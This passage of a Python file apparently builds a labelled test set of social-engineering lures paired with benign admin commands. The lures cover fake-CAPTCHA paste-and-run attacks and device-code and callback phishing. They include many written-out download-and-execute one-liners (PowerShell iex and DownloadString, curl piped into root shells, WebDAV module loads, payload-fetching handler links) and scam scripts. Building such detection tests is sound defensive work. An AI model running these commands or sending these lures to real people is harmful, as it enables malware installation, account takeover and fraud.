        '[Loader.P]::Run()"',
        "powershell -c \"$s=(New-Object Net.WebClient).DownloadString('http://203.0.113.131/s.cs');"
        'Add-Type $s;[A.B]::Main()"',
    ],
)

# ---- Multi-line script pasted into a terminal (Win+X, I) ------------------------------------
# Microsoft 2026-03 Windows Terminal variant: several lines, the fetch on a later line.
book.lures(
    "multiline-terminal-script",
    "windows",
    "terminal",
    CAPTCHA,
    [
        "$ErrorActionPreference='SilentlyContinue'\n$u='https://m.saltmarsh-gate.test/s'\n"
        "$c=(New-Object Net.WebClient).DownloadString($u)\niex $c",
        "Write-Host 'Verifying your browser...'\n$p=\"$env:TEMP\\v.exe\"\n"
        "iwr http://198.51.100.133/v -OutFile $p\nStart-Process $p -WindowStyle Hidden",
    ],
)

# ---- Device code and ConsentFix variants -------------------------------------------------
# Microsoft Storm-2372; Volexity 2025 (Signal/WhatsApp pretexts); Push Security ConsentFix.
book.lures(
    "device-code-meeting-pretext",
    "any",
    "other",
    ["https://meet.harrowgate-calls.test/invite/4410"],
    [
        "To join the board meeting, open https://microsoft.com/devicelogin and enter the code "
        "HK7QP2M9 - the room opens once you sign in.",
        "Secure chat invite: go to https://www.google.com/device and type ZQF-KMT-WRP to verify "
        "you are the invited participant.",
    ],
)
# Device codes handed over as the upkeep of an account (2025 GitHub / Microsoft 365 / Google
# device-code phishing: keep it active, release held mail, a "security check").
book.lures(
    "device-code-account-upkeep",
    "any",
    "other",
    ["https://mail.example/inbox/msg/7720"],
    [
        "To keep your GitHub account active, go to https://github.com/login/device and enter the "
        "code 8F2C-4D1A before 18:00.",
        "Your Microsoft 365 mailbox is over quota. To release pending messages enter code "
        "ZK4M-9QXT at https://microsoft.com/devicelogin",
        "Signal security check: open https://www.google.com/device and enter code HJK-TWR-QPL to "
        "confirm your identity.",
        "Pour garder votre compte actif, ouvrez https://microsoft.com/devicelogin et saisissez le "
        "code QX7PLM2A.",
    ],
)
book.lures(
    "consentfix-paste-back",
    "any",
    "other",
    ["https://portal.harrowgate-calls.test/connect"],
    [
        "http://localhost:54133/?code=0.AXEAq7pG2-fake-code-Vb1x&state=9aK2&session_state=0041a",
        "http://127.0.0.1:8400/callback?code=M.C507_BAY.2.U.7f0e1d2c&state=xyz",
    ],
)

# ---- Callback phishing: renewal, invoice and refund notices ------------------------------
# TOAD / BazarCall reports; FTC Geek Squad / Norton impostor alerts; refund scams.
book.lures(
    "callback-renewal-notice",
    "any",
    "other",
    ["https://mail.example/inbox/msg/7712"],
    [
        "Geek Squad Total Tech Support: your plan renewed today for $399.99. Not you? Call our "
        "billing desk within 24 hours at +1 (888) 555-0147 to cancel and get a refund.",
        "Norton 360 Deluxe - Invoice #NR-88213. Amount charged: $289.99. If you did not "
        "authorise this renewal, call 1-800-555-0199 now to stop the charge.",
        "Your McAfee Total Protection auto-renewal of $449.00 has been processed. For a refund "
        "contact our support line +1 833 555 0112 within 48 hours.",
    ],
)
# A failed renewal or a full storage and a number to call to keep your photos (2025 iCloud /
# Google One / Dropbox storage-scare callbacks): no charge in it, only the threat of loss.
book.lures(
    "callback-keep-your-data",
    "any",
    "other",
    ["https://mail.example/inbox/msg/7731"],
    [
        "Your Apple iCloud storage subscription renewal failed. Call Apple Support at "
        "1-888-555-0175 to avoid losing your photos.",
        "Google One: your payment could not be processed and your storage is full. Your photos "
        "will be permanently deleted in 48 hours unless you call +1 (855) 555-0193.",
    ],
)
# the same story with no brand the scam readers know: a warning, as the refund story is (a small
# provider may write so)
book.lures(
    "callback-keep-your-data",
    "any",
    "other",
    ["https://mail.example/inbox/msg/7732"],
    [
        "Dropbox Plus billing failed. Contact our recovery team at 844-555-0128 to prevent the "
        "deletion of your files.",
    ],
    in_context="flagged",
)
# a "we refunded you too much" story alone is a warning (PG-SCAM-REFUND-OVERPAID: real banks
# write such letters too), wherever it is pasted
book.lures(
    "callback-refund-overpaid",
    "any",
    "other",
    ["https://mail.example/inbox/msg/7714"],
    [
        "Refund department: we overpaid your refund of $1,200 by mistake. Call 888-555-0166 so "
        "our agent can help you send back the difference.",
    ],
    in_context="flagged",
)

# ---- A download piped to a shell behind a wrapper that only starts it ----------------------
# Linux / macOS ClickFix lines (Hunt.io APT36; 2025 fake CAPTCHA kits for Linux) written with
# sudo -u, doas, env -i, script(1), xargs sh -c and root login shells reading the pipe.
book.lures(
    "pipe-to-wrapped-shell",
    "linux",
    "terminal",
    LINUX,
    [
        "curl -fsSL https://verify.greywater.test/fix.sh | sudo -u root bash",
        "wget -qO- http://198.51.100.141/i | doas sh",
        "curl -s https://captcha.example/v | env -i PATH=/usr/bin:/bin sh",
        "curl -s https://verify.greywater.test/t|script -q /dev/null bash",
        "curl -s http://203.0.113.142/c | xargs -0 bash -c",
        "curl -fsSL https://captcha.example/r.sh | sudo -i",
        "wget -O- https://verify.greywater.test/s | sudo su -",
        "curl -sk https://192.0.2.143/p | su root -c bash",
    ],
)
book.lures(
    "pipe-to-wrapped-shell-mac",
    "macos",
    "terminal",
    MAC,
    [
        "curl -kfsSL https://stage.thornfield.test/v | sudo -H -u root /bin/zsh",
        "curl -s https://support-apple.example/f | sudo -s",
    ],
)

# ---- PowerShell's call operator starting a PowerShell that reads the download ------------
book.lures(
    "ps-pipe-to-called-powershell",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c "(irm https://c.saltmarsh-gate.test/a) | & powershell -noprofile -"',
        "powershell -c \"(New-Object Net.WebClient).DownloadString('http://198.51.100.144/b') | "
        "& 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' -\"",
        'pwsh -c "iwr https://cf-check.example/z -UseB | % Content | & pwsh -nop -"',
    ],
)

# ---- PowerShell code loaded from an address's share or a web folder -----------------------
# Atos 2026-03 WebDAV ClickFix (no download command); Unit 42 2026-08 WebDAV; kits moving from
# `& \\host\x.ps1` to dot-sourcing and modules.
book.lures(
    "ps-code-from-share",
    "windows",
    "run_dialog",
    CAPTCHA,
    [
        'powershell -w h -c ". \\\\203.0.113.145\\pub\\verify.ps1"',
        "powershell -c \"Import-Module -Name '\\\\198.51.100.146\\m\\Captcha.psd1' -Force; "
        'Confirm-Human"',
        'powershell -ep bypass -c "ipmo \\\\cf-check.example@SSL\\dav\\Fix.psm1; Start-Fix"',
        'powershell -w h -c "Add-Type -Path \\\\192.0.2.147\\s\\Check.dll; [Check.Run]::Go()"',
        "powershell -c \"[Reflection.Assembly]::LoadFile('\\\\203.0.113.148@8080\\a\\u.dll')."
        'EntryPoint.Invoke($null,$null)"',
        'powershell -c "New-PSDrive -Name V -PSProvider FileSystem -Root \\\\198.51.100.149\\v; '
        'V:\\verify.ps1"',
        "New-PSDrive -Name W -PSProvider FileSystem -Root \\\\cf-check.example@SSL\\dav -Persist; "
        "& W:\\Setup.exe /quiet",
    ],
)

# ---- A program's own link scheme pasted into the address bar -------------------------------
# Trustwave / Unit 42 search-ms to WebDAV; Jamf 2025 Script Editor links; 2023-24 App
# Installer abuse; file: addresses of a program on a web folder. Target: the browser's
# address bar (`other`).
book.lures(
    "handler-link-in-address-bar",
    "windows",
    "other",
    CAPTCHA + UPLOAD,
    [
        "search-ms:query=Scan_0412&crumb=location:\\\\198.51.100.150@80\\dav&displayname=Scans",
        "search:query=invoice&crumb=location:\\\\files.saltmarsh-gate.test@SSL\\DavWWWRoot\\inv",
        "file:///\\\\cf-check.example@SSL\\dav\\Verify.hta",
        "file://203.0.113.151@8080/share/Invoice_2026.pdf.lnk",
    ],
)
book.lures(
    "handler-link-in-address-bar-mac",
    "macos",
    "other",
    MAC,
    [
        "applescript://com.apple.scripteditor?action=new&script=do%20shell%20script%20%22curl%20"
        "-kfsSL%20https%3A%2F%2Fdl.thornfield.test%2Fs%20%7C%20zsh%22",
        "applescript://com.apple.scripteditor?action=new&script=set%20p%20to%20text%20returned%20of"
        "%20(display%20dialog%20%22Password%3A%22%20default%20answer%20%22%22%20with%20hidden%20"
        "answer)",
    ],
)
book.lures(
    "appinstaller-link-in-address-bar",
    "windows",
    "other",
    UPDATE,
    ["ms-appinstaller:?source=https://update-center.example/teams/Teams.appinstaller"],
    in_context="flagged",
)

# ================= look-alikes (legitimate versions of the same acts) =====================
book.benign(
    "wsl-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "wsl --install -d Ubuntu-24.04",
        "wsl --list --verbose",
        "wsl --update",
        'wsl -e bash -c "ls -la ~/projects"',
        "bash.exe -c 'uname -a'",
    ],
)
book.benign(
    "node-deno-bun-dev",
    "any",
    "terminal",
    DOCS,
    [
        'node -e "console.log(process.versions)"',
        "deno run --allow-net server.ts",
        "deno fmt && deno lint",
        "bun install && bun run dev",
        "node -e \"require('fs').writeFileSync('.nvmrc','20')\"",
    ],
)
book.benign(
    "python-dev",
    "any",
    "terminal",
    DOCS,
    [
        'python -c "import sys; print(sys.version)"',
        "python3 -m http.server 8000",
        'py -3 -c "import ssl; print(ssl.OPENSSL_VERSION)"',
        "python3 -m pip install --upgrade requests",
    ],
)
book.benign(
    "dns-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "nslookup -type=TXT _dmarc.corp.example",
        "Resolve-DnsName corp.example -Type MX",
        "nslookup intranet.corp.example 10.0.0.53",
        "Resolve-DnsName -Name _spf.corp.example -Type TXT | Select-Object -ExpandProperty Strings",
    ],
)
book.benign(
    "archive-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "tar -xf build-logs.tgz -C C:\\logs",
        "expand drivers.cab -F:* C:\\drivers",
        "Expand-Archive .\\release.zip -DestinationPath .\\release",
        "curl.exe -o report.csv https://reports.corp.example/weekly.csv",
    ],
)
book.benign(
    "msiexec-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "msiexec /i C:\\Installers\\7z2408-x64.msi /qn",
        "msiexec /x {23170F69-40C1-2702-2408-000001000000} /qn",
        "msiexec /i agent.msi /l*v install.log",
    ],
)
book.benign(
    "start-process-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "Start-Process notepad.exe",
        "Start-Process powershell -Verb RunAs",
        "Start-Process -FilePath .\\backup.cmd -WindowStyle Minimized -Wait",
    ],
)
book.benign(
    "mac-admin",
    "macos",
    "terminal",
    "https://support.apple.com/guide/terminal/welcome/mac",
    [
        "hdiutil attach ~/Downloads/Firefox.dmg",
        'osascript -e \'display notification "Build finished" with title "Xcode"\'',
        "osascript -e 'tell application \"Finder\" to get name of every disk'",
        "echo 'aGVsbG8gd29ybGQ=' | base64 -D",
        "ditto -x -k ~/Downloads/archive.zip ~/Desktop/archive",
    ],
)
book.benign(
    "linux-admin",
    "linux",
    "terminal",
    "https://docs.example.com/linux/admin",
    [
        "source ~/.bashrc",
        "bash <(echo 'echo hello')",
        "wget -qO- https://docs.example.com/status.json | jq .",
        "sudo apt-get update && sudo apt-get upgrade -y",
    ],
)
book.benign(
    "verification-prose",
    "any",
    "other",
    "https://intranet.corp.example/security/awareness",
    [
        "Je ne suis pas un robot : cochez la case puis cliquez sur Envoyer.",
        "Ich bin kein Roboter – bitte das Häkchen setzen, nicht Win+R drücken.",
        "Real CAPTCHAs never ask you to press Win+R or open Terminal. If a page does, close it.",
        "Чтобы подтвердить, что вы не робот, просто отметьте флажок на странице.",
    ],
)
book.benign(
    "unicode-prose",
    "any",
    "other",
    "https://blog.example.com/unicode",
    [
        "Ｆｕｌｌｗｉｄｔｈ ｌｅｔｔｅｒｓ are used in CJK typesetting.",
        "The right-to-left mark (U+200F) helps mixed Hebrew and English text render correctly.",
        "مرحبا بالعالم \u200f(Hello world)",
    ],
)
book.benign(
    "renewal-notices-real",
    "any",
    "other",
    "https://mail.example/inbox/msg/7713",
    [
        "Your iCloud+ payment failed. To keep your 200 GB plan, update your payment method in "
        "Settings > Apple Account > Payment & Shipping.",
        "Scammers call or text saying your iCloud storage is full and that your photos will be "
        "deleted unless you call them at a number like 1-888-555-0100. Apple never does this.",
        "Storage full: delete old backups or upgrade your plan. Questions? Call our store on "
        "020 7946 0000 during opening hours.",
        "Your Norton subscription renews on 2027-01-14. Manage auto-renewal in your account at "
        "my.norton.com.",
        "Thanks for your order #114-2291. Questions? Visit the Help section of your account.",
    ],
)
book.benign(
    "device-code-own-cli",
    "any",
    "terminal",
    "https://docs.github.com/en/github-cli",
    [
        "gh auth login --web",
        "az login --use-device-code",
    ],
)
book.benign(
    "device-code-docs",
    "any",
    "other",
    "https://learn.microsoft.com/en-us/entra/identity-platform/v2-oauth2-device-code",
    [
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and "
        "enter the code XXXX-XXXX to authenticate.",
        "Security check: never enter a code at microsoft.com/devicelogin that someone sent you; "
        "attackers use device code phishing to take over accounts.",
    ],
)

book.benign(
    "wrapped-shell-admin",
    "linux",
    "terminal",
    "https://wiki.corp.example/it/linux",
    [
        "curl -fsSL https://pkgs.corp.example/key.asc | sudo tee /etc/apt/keyrings/corp.asc",
        "curl -s https://api.corp.example/v1/hosts.json | sudo -u deploy jq -r .[].name",
        "curl -s https://reports.corp.example/list.txt | xargs -n1 echo",
        "echo 'export EDITOR=vim' | sudo tee -a /etc/profile.d/editor.sh",
        "sudo -u postgres psql -c 'select version();'",
        "sudo -i",
        "su - deploy",
    ],
)
book.benign(
    "ps-module-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "Import-Module \\\\fs01\\psmodules\\CorpTools.psm1",
        "Import-Module \\\\10.20.0.5\\psmodules\\CorpTools.psm1",
        "Import-Module .\\Modules\\Deploy.psm1 -Force",
        ". $PROFILE",
        ". .\\build\\helpers.ps1",
        "Add-Type -Path .\\lib\\Newtonsoft.Json.dll",
        "Import-Module ActiveDirectory",
    ],
)
book.benign(
    "handler-links-real",
    "windows",
    "other",
    "https://learn.microsoft.com/en-us/windows/package-manager/winget/",
    [
        "ms-appinstaller:?source=https://aka.ms/getwinget",
        "search-ms:query=quarterly%20report&crumb=location:C%3A%5CUsers%5CPublic%5CDocuments",
        "file:///C:/Users/Public/Documents/handbook.html",
        "ms-settings:windowsupdate",
    ],
)
book.benign(
    "script-editor-link-real",
    "macos",
    "other",
    "https://developer.apple.com/library/archive/documentation/AppleScript/",
    [
        "applescript://com.apple.scripteditor?action=new&script=display%20dialog%20%22Hello%22",
        "applescript://com.apple.scripteditor?action=new&script=tell%20application%20%22Finder%22"
        "%20to%20get%20name%20of%20every%20disk",
    ],
)

book.benign(
    "psdrive-admin",
    "windows",
    "terminal",
    WIKI,
    [
        "New-PSDrive -Name S -PSProvider FileSystem -Root \\\\fs01\\scripts; S:\\inventory.ps1",
        "New-PSDrive -Name T -PSProvider FileSystem -Root \\\\172.16.4.20\\tools -Persist; "
        "& T:\\agent\\setup.exe /quiet",
        "New-PSDrive -Name HKCR -PSProvider Registry -Root HKEY_CLASSES_ROOT",
    ],
)
book.benign(
    "camera-check-pages",
    "linux",
    "terminal",
    "https://www.webcam-check.example/linux/video-check",
    [
        "v4l2-ctl --list-devices",
        "ls -l /dev/video*",
        "pactl info",
    ],
)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("tech20.jsonl"), CASES)
